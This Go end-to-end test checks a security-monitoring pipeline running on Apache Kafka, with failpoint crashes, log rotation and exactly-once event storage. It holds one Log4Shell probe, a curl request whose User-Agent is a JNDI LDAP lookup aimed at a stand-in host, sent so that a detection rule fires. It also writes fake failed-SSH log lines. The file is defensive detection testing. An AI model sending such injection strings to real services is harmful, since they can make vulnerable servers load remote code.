package main

import (
	"encoding/base64"
	"fmt"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"sync"
	"sync/atomic"
	"syscall"
	"testing"
	"time"

	"tidegate/pipeline/engine"
)

const (
	kafkaHeap    = "-Xmx512m"
	kafkaVersion = "4.1.0"
	kafkaConfig  = `process.roles=broker,controller
node.id=1
controller.quorum.voters=1@127.0.0.1:9093
listeners=PLAINTEXT://127.0.0.1:9092,CONTROLLER://127.0.0.1:9093
advertised.listeners=PLAINTEXT://127.0.0.1:9092
controller.listener.names=CONTROLLER
log.dirs=%s
offsets.topic.replication.factor=1
offsets.topic.num.partitions=1
group.initial.rebalance.delay.ms=0
`
	tidegateConfig = `data_dir: %[1]s/state
host: kafka1
cluster: kafka
metrics:
  listen: 127.0.0.1:%%d
kafka:
  brokers: [127.0.0.1:9092]
  partitions: 4
  assign: group
capture:
  interfaces: [eth0]
containers:
  docker_host: unix://%[1]s/nobody.sock
logs:
  docker_data_root: %[1]s/root
`
)

// kafkaSetup is tidegate on Apache Kafka: a namespace with the broker, the embedded ClickHouse, two engines
// and a collector as separate processes, and the outside behind eth0. There is no dockerd: the test writes
// the log files of the containers.
type kafkaSetup struct {
	*e2eSystem
	jars     string
	writers  []*logWriter
	stop     chan struct{}
	running  sync.WaitGroup
	rotation sync.RWMutex // held while no log may be rotated
}

// kafkaJars returns the folder of the jars of Kafka, which deploy/setup-test.sh fetches. Where CI is set they
// must exist.
func kafkaJars(t *testing.T) string {
	t.Helper()
	missing := t.Skipf
	if os.Getenv("CI") != "" {
		missing = t.Fatalf
	}
	if _, err := exec.LookPath("java"); err != nil {
		missing("Apache Kafka needs java: %v", err)
	}
	cache, err := os.UserCacheDir()
	if err != nil {
		t.Fatal(err)
	}
	dir := filepath.Join(cache, "tidegate")
	if cacheDir := os.Getenv("TIDEGATE_CACHE"); cacheDir != "" {
		dir = cacheDir
	}
	dir = filepath.Join(dir, "kafka-"+kafkaVersion)
	if !fileExists(filepath.Join(dir, "complete")) {
		missing("Apache Kafka %s is not in %s; deploy/setup-test.sh fetches it", kafkaVersion, dir)
	}
	return filepath.Join(dir, "libs")
}

// newKafkaSetup starts everything but the collector.
func newKafkaSetup(t *testing.T) *kafkaSetup {
	jars := kafkaJars(t)
	if os.Geteuid() != 0 {
		t.Skip("network namespaces need root")
	}
	host := &dockerHost{t: t, dir: t.TempDir(), hostNamespace: fmt.Sprintf("tgkafka%d", os.Getpid()), outsideNamespace: fmt.Sprintf("tgkout%d", os.Getpid())}
	t.Cleanup(host.shutDown)
	host.createNetwork()
	setup := &kafkaSetup{jars: jars, stop: make(chan struct{}), e2eSystem: &e2eSystem{dockerHost: host, binary: binary(t), stateDir: filepath.Join(host.dir, "state"), processes: map[string]*exec.Cmd{}}}
	t.Cleanup(setup.stopAll)
	for i, name := range []string{"collect", "analyze", "analyze-b", "store"} {
		host.check(os.WriteFile(filepath.Join(host.dir, name+".yaml"), fmt.Appendf(nil, fmt.Sprintf(tidegateConfig, host.dir), 9464+i), 0o600))
	}
	setup.formatKafka()
	setup.startKafka()
	setup.startProcess("store", nil, "run", "--only", "store")
	setup.waitKafka()
	setup.eventually("the store", 60*time.Second, func() string {
		if !fileExists(filepath.Join(setup.stateDir, "store", "ports")) {
			return string(setup.logTail("store"))
		}
		return ""
	})
	setup.requireNoFailure()
	setup.startProcess("analyze", nil, "analyze")
	return setup
}

func (k *kafkaSetup) javaCommand(args ...string) *exec.Cmd {
	return k.hostCommand("java", append([]string{kafkaHeap, "-XX:+UseSerialGC", "-XX:TieredStopAtLevel=1", "-Dorg.slf4j.simpleLogger.defaultLogLevel=warn", "-cp", k.jars + "/*"}, args...)...)
}

func (k *kafkaSetup) formatKafka() {
	conf := filepath.Join(k.dir, "server.properties")
	k.check(os.WriteFile(conf, fmt.Appendf(nil, kafkaConfig, filepath.Join(k.dir, "kafka")), 0o600))
	id := base64.RawURLEncoding.EncodeToString([]byte("tidegate's test!"))
	k.mustRun(k.javaCommand("kafka.tools.StorageTool", "format", "-t", id, "-c", conf))
}

func (k *kafkaSetup) startKafka() {
	k.startCommand("kafka", k.javaCommand("kafka.Kafka", filepath.Join(k.dir, "server.properties")))
}

func (k *kafkaSetup) waitKafka() {
	k.t.Helper()
	k.eventually("kafka answers", 60*time.Second, func() string {
		if err := k.hostCommand("bash", "-c", "exec 3<>/dev/tcp/127.0.0.1/9092").Run(); err != nil {
			return err.Error() + ": " + string(k.logTail("kafka"))
		}
		return ""
	})
}

func (k *kafkaSetup) startCollector() {
	k.t.Helper()
	k.startProcess("collect", nil, "collect")
	k.waitMetrics(9464)
	k.waitMetric(9464, `tidegate_capture_workers{interface="eth0"}`, 1)
}

// stopAll stops the processes that still run, clients before servers.
func (k *kafkaSetup) stopAll() {
	select {
	case <-k.stop:
	default:
		close(k.stop)
	}
	k.running.Wait()
	order := []string{"collect", "analyze-b", "analyze", "store", "web", "kafka"}
	if k.t.Failed() {
		for _, name := range order {
			k.t.Logf("log of %s:\n%s", name, k.logTail(name))
		}
	}
	k.stopProcesses(order...)
}

// requireNoFailure ends the test if it has failed already: the following steps would only wait.
func (k *kafkaSetup) requireNoFailure() {
	k.t.Helper()
	if k.t.Failed() {
		k.t.FailNow()
	}
}

// waitKilled waits until a process has killed itself at its failpoint.
func (k *kafkaSetup) waitKilled(name string) {
	k.t.Helper()
	cmd := k.processes[name]
	k.waitExit(name)
	if ws, ok := cmd.ProcessState.Sys().(syscall.WaitStatus); !ok || ws.Signal() != syscall.SIGKILL {
		k.t.Fatalf("%s ended with %v\n%s", name, cmd.ProcessState, k.logTail(name))
	}
}

// A logWriter writes and rotates the log of one container as dockerd does.
type logWriter struct {
	setup        *kafkaSetup
	id           string
	dir          string
	linesPerFile int // lines of a file
	files        int // files, including the open one
	lines        atomic.Int64
	matching     atomic.Int64 // lines that match a rule
}

func (k *kafkaSetup) startLogWriter(index, linesPerFile, files int) {
	id := fmt.Sprintf("%064x", 0xc0ffee00+index)
	writer := &logWriter{setup: k, id: id, dir: filepath.Join(k.dir, "root", "containers", id), linesPerFile: linesPerFile, files: files}
	k.check(os.MkdirAll(writer.dir, 0o700))
	k.writers = append(k.writers, writer)
	k.running.Go(func() {
		if err := writer.writeLines(); err != nil {
			k.t.Errorf("write the log of %s: %v", id, err)
		}
	})
}

func (w *logWriter) writeLines() error {
	path := filepath.Join(w.dir, w.id+"-json.log")
	open := func() (*os.File, error) { return os.OpenFile(path, os.O_CREATE|os.O_WRONLY|os.O_APPEND, 0o600) }
	file, err := open()
	if err != nil {
		return err
	}
	defer func() { _ = file.Close() }()
	ticker := time.NewTicker(8 * time.Millisecond)
	defer ticker.Stop()
	for line, inFile := int64(0), 0; ; line++ {
		select {
		case <-w.setup.stop:
			return nil
		case <-ticker.C:
		}
		text := fmt.Sprintf("line %d", line)
		if line%20 == 7 {
			text = fmt.Sprintf("Failed password for invalid user u%d from 203.0.113.4 port 51515 ssh2", line)
			w.matching.Add(1)
		}
		if _, err := fmt.Fprintf(file, `{"log":"%s\n","stream":"stdout","time":"%s"}`+"\n", text, time.Now().UTC().Format(time.RFC3339Nano)); err != nil {
			return err
		}
		w.lines.Add(1)
		if inFile++; inFile < w.linesPerFile || !w.setup.rotation.TryRLock() {
			continue
		}
		inFile = 0
		_ = file.Close()
		for number := w.files - 1; number > 0; number-- {
			from := fmt.Sprintf("%s.%d", path, number-1)
			if number == 1 {
				from = path
			}
			_ = os.Rename(from, fmt.Sprintf("%s.%d", path, number)) // the first rotations find no older files
		}
		file, err = open()
		w.setup.rotation.RUnlock()
		if err != nil {
			return err
		}
	}
}

// sendRequests sends n requests from outside, and one that matches a rule.
func (k *kafkaSetup) sendRequests(name string, requests int) {
	k.t.Helper()
	k.mustRun(k.visitorCommand(workload{Case: name, Transactions: requests, HTTP: hostIP + ":8080", Interval: 5 * time.Millisecond}))
	k.mustRun(k.outsideCommand("curl", "-sf", "-A", "${jndi:ldap://192.0.2.66/a}", "http://"+hostIP+":8080/probe/"+name))
}

// TestKafka runs engine and collector on Apache Kafka. Two engines share the partitions of a group; both are
// killed, one of them at failpoints of a block, and so are the collector and the broker. Logs are written
// without a pause; clients pause while the collector is down.
func TestKafka(t *testing.T) {
	if testing.Short() {
		t.Skip("it starts Apache Kafka")
	}
	setup := newKafkaSetup(t)
	self, err := os.Executable()
	setup.check(err)
	web := setup.hostCommand(self)
	web.Env = append(os.Environ(), "TIDEGATE_WORK="+workload{ListenAddr: hostIP + ":8080"}.String())
	setup.startCommand("web", web)
	setup.waitMetrics(9465)
	setup.startProcess("analyze-b", []string{"TIDEGATE_FAILPOINT=" + engine.AfterInsert + ":3"}, "analyze")
	for requests := range 6 {
		setup.startLogWriter(requests, 150+50*requests, 4)
	}
	setup.startCollector()
	const n = 60
	rounds := 0
	sendRequests := func() { setup.sendRequests(fmt.Sprintf("k%d", rounds), n); rounds++ }

	sendRequests()
	setup.waitKilled("analyze-b")
	setup.startProcess("analyze-b", []string{"TIDEGATE_FAILPOINT=" + engine.AfterIntent + ":2"}, "analyze")
	sendRequests()
	setup.waitKilled("analyze-b")
	setup.killProcess("analyze")
	setup.startProcess("analyze", nil, "analyze")
	setup.startProcess("analyze-b", nil, "analyze")
	sendRequests()

	setup.killProcess("kafka") // lines wait in their files or, where those are deleted, in the spool; requests wait in the spool
	sendRequests()
	setup.startKafka()
	setup.waitKafka()
	sendRequests()

	time.Sleep(2 * time.Second) // captured traffic is acknowledged or spooled; no client sends
	setup.rotation.Lock()       // a file that is deleted while no collector runs is lost
	acknowledged := sumSamples(setup.fetchMetrics(9464), "tidegate_collector_events_safe_total")
	setup.killProcess("collect")
	setup.startCollector()
	sendRequests()
	time.Sleep(time.Second)
	setup.rotation.Unlock()
	time.Sleep(2 * time.Second)
	close(setup.stop)
	setup.running.Wait()

	setup.requireNoFailure()
	setup.expectVerdicts(rounds, n)
	setup.expectCount("what was acknowledged is there", `SELECT count() FROM events`, acknowledged)
}

// expectRows is e2eSystem.expect, but ends the test after a failure.
func (k *kafkaSetup) expectRows(what, sql string, want ...string) {
	k.t.Helper()
	k.e2eSystem.expectRows(what, sql, want...)
	k.requireNoFailure()
}

// expectVerdicts compares the stored verdicts with the visits that were made.
func (k *kafkaSetup) expectVerdicts(rounds, requests int) {
	k.t.Helper()
	for round := range rounds {
		k.expectRows("requests", fmt.Sprintf(`SELECT count(), uniqExact("event.id"), uniqExact("url.path"), countIf("event.partial") FROM events WHERE "event.dataset" = 'http' AND "url.path" LIKE '/e2e/k%d/%%'`, round), fmt.Sprintf("%d %d %d 0", requests, requests, requests))
	}
	var lines, matching []string
	for _, writer := range k.writers {
		lines = append(lines, fmt.Sprintf("%s %d %d %d", writer.id[56:], writer.lines.Load(), writer.lines.Load(), writer.lines.Load()))
		matching = append(matching, fmt.Sprintf("%s %d", writer.id[56:], writer.matching.Load()))
	}
	k.expectRows("lines", `SELECT substring("container.id", 57), count(), uniqExact("event.id"), uniqExact(message) FROM events WHERE "event.dataset" = 'log' GROUP BY 1 ORDER BY 1`, lines...)
	k.expectRows("alerts of lines", `SELECT substring(container_id, 57), sum(count) FROM alerts_now WHERE rule = 'log-ssh-failed' GROUP BY 1 ORDER BY 1`, matching...)
	k.expectRows("alerts of requests", `SELECT sum(count) FROM alerts_now WHERE rule = 'http-log4shell'`, fmt.Sprint(rounds))
	k.expectRows("alerts count what is stored", `SELECT count() FROM (SELECT rule, sum(count) AS n FROM alerts_now GROUP BY rule) AS a FULL OUTER JOIN (SELECT arrayJoin("verdict.rule") AS rule, count() AS n FROM events GROUP BY rule) AS v USING (rule) WHERE a.n != v.n`, "0")
	k.expectRows("nothing is there twice", `SELECT count() = uniqExact("event.id"), count() = uniqExact((_partition, _offset, _index)), uniqExact(_partition) > 1 FROM events`, strings.Join([]string{"1", "1", "1"}, " "))
	k.expectRows("no alert is there twice", `SELECT count() = uniqExact(id, revision) FROM alerts`, "1")
}
